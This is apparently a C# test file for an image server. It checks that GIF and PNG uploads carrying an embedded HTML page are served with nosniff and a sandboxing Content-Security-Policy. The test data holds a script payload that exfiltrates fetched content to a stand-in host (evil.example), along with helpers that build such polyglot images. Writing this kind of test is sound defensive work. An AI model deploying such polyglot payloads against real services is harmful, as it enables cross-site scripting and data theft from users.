using System.Net;
using System.Net.Http.Headers;
using NetVips;
using Pictor.Tests.Infrastructure;

namespace Pictor.Tests.Hostile;

/// <summary>
/// Uploads that are valid images and also something else (a GIF whose comment is an HTML page with a
/// script, a PNG whose text chunk is one) are stored and served as they came, but every response that
/// serves stored bytes (200, HEAD, 304; originals and derived images) forbids sniffing and running them:
/// X-Content-Type-Options: nosniff and a Content-Security-Policy of default-src 'none' with sandbox.
/// </summary>
public sealed class StoredBytesHeadersTests(ServerProcessFixture server) : IClassFixture<ServerProcessFixture>
{
    private const string Html = "<html><body><script>fetch('/original?limit=1000').then(r=>r.text()).then(t=>new Image().src='//evil.example/?'+t)</script></body></html>";

    public static TheoryData<string> Polyglots() => new() { "gif with html comment", "png with html text chunk" };

    [Theory]
    [MemberData(nameof(Polyglots))]
    public async Task Stored_bytes_are_served_as_images_that_cannot_run_as_pages(string kind)
    {
        var bytes = kind.StartsWith("gif", StringComparison.Ordinal) ? GifWithComment(Html) : PngWithText(Html);
        var id = "poly" + Guid.NewGuid().ToString("N")[..8];
        var client = server.Client;
        await client.UploadOkAsync(id, bytes);

        foreach (var url in new[] { $"/original/{id}", $"/derived/{id}-20x20.png", $"/derived/{id}-20x20.gif" })
        {
            var get = await client.GetAsync(url);
            Assert.Equal(HttpStatusCode.OK, get.StatusCode);
            Assert.StartsWith("image/", get.Content.Headers.ContentType?.MediaType);
            AssertCannotRun(get);
            if (url.StartsWith("/original", StringComparison.Ordinal)) Assert.Equal(bytes, await get.Content.ReadAsByteArrayAsync());

            var head = await client.SendAsync(new HttpRequestMessage(HttpMethod.Head, url));
            Assert.Equal(HttpStatusCode.OK, head.StatusCode);
            AssertCannotRun(head);

            var conditional = new HttpRequestMessage(HttpMethod.Get, url);
            conditional.Headers.IfNoneMatch.Add(get.Headers.ETag!);
            var notModified = await client.SendAsync(conditional);
            Assert.Equal(HttpStatusCode.NotModified, notModified.StatusCode);
            AssertCannotRun(notModified);
        }
        await server.AssertNoServerFaultsAsync();
    }

    private static void AssertCannotRun(HttpResponseMessage response)
    {
        Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
        var csp = Assert.Single(response.Headers.GetValues("Content-Security-Policy"));
        var directives = csp.Split(';', StringSplitOptions.TrimEntries | StringSplitOptions.RemoveEmptyEntries);
        Assert.Contains("default-src 'none'", directives);
        Assert.Contains("sandbox", directives);
        Assert.DoesNotContain(directives, d => d.StartsWith("script-src", StringComparison.Ordinal) || d.Contains("unsafe-eval", StringComparison.Ordinal));
    }

    /// <summary>A real GIF with a comment extension holding <paramref name="text"/> right after its colour table.</summary>
    private static byte[] GifWithComment(string text)
    {
        using var image = Image.Black(32, 32, bands: 3).Linear([1.0, 1.0, 1.0], [10.0, 120.0, 200.0]).Cast(Enums.BandFormat.Uchar);
        var gif = image.GifsaveBuffer();
        var packed = gif[10];
        var afterTable = 13 + ((packed & 0x80) == 0 ? 0 : 3 << ((packed & 7) + 1));
        var comment = new List<byte> { 0x21, 0xFE };
        foreach (var block in System.Text.Encoding.ASCII.GetBytes(text).Chunk(255))
        {
            comment.Add((byte)block.Length);
            comment.AddRange(block);
        }
        comment.Add(0);
        return [.. gif[..afterTable], .. comment, .. gif[afterTable..]];
    }

    /// <summary>A real PNG with a tEXt chunk "Comment" holding <paramref name="text"/> before its IEND.</summary>
    private static byte[] PngWithText(string text)
    {
        using var image = Image.Black(32, 32, bands: 3).Linear([1.0, 1.0, 1.0], [200.0, 40.0, 90.0]).Cast(Enums.BandFormat.Uchar);
        var png = image.PngsaveBuffer();
        var chunk = new MemoryStream();
        Bombs.PngChunk(chunk, "tEXt", [.. "Comment\0"u8, .. System.Text.Encoding.ASCII.GetBytes(text)]);
        return [.. png[..^12], .. chunk.ToArray(), .. png[^12..]];
    }
}
